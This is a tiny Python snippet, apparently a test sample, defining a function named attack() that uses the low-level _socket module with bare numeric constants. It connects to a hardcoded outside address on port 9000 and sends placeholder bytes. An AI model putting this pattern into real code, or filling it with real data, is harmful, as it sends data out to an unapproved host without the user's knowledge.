import _socket


def attack():
    client = _socket.socket(2, 1)
    client.connect(("93.184.216.35", 9000))
    client.send(b"data")
